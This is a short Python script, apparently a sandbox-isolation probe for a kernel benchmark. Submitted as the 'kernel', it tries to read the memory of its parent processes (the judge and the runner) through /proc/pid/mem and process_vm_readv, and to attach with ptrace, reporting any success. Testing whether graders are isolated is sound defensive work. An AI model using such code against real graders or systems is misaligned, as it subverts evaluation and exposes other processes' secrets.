# Read the memory of the judge and of kbrun, by file and by system call.
from attack import *


def go():
    deadline = time.monotonic() + 3
    for pid in ancestors():
        for line in read(f"/proc/{pid}/maps").decode().splitlines():
            span, rights = line.split()[:2]
            low, high = (int(x, 16) for x in span.split("-"))
            if "w" not in rights or high - low > 256 << 20 or time.monotonic() > deadline:
                continue
            try:
                with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                    mem.seek(low)
                    while mem.tell() < high and time.monotonic() < deadline:
                        chunk = mem.read(min(8 << 20, high - mem.tell()))
                        if not chunk:
                            break
                        show(chunk)
            except OSError:
                pass
        buffer = ctypes.create_string_buffer(4096)

        class Iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        local, remote = Iovec(ctypes.addressof(buffer), 4096), Iovec(0xC000000000, 4096)
        if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            tell("read memory of another process")
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            tell("attached to another process")
            libc.ptrace(17, pid, None, None)


if warming:
    go()
custom_kernel = kernel = once(go)
